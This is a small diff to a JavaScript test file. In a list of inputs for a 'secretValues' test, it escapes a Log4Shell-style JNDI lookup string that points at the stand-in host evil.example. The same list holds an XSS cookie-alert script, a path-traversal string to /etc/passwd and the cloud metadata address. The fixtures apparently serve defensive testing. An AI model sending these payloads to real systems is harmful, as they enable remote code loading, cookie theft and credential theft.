@@ -90,7 +90,7 @@ describe('secretValues', () => {
       '<script>alert(document.cookie)</script>',
       '../../../../etc/passwd',
       'SELECT * FROM users WHERE id = 1234567890123456',
-      '${jndi:ldap://evil.example/a}',
+      `$\{jndi:ldap://evil.example/a}`,
       'http://169.254.169.254/latest/meta-data/',
       'mailto:someone@example.com',
       'https://example.com/@user/post',
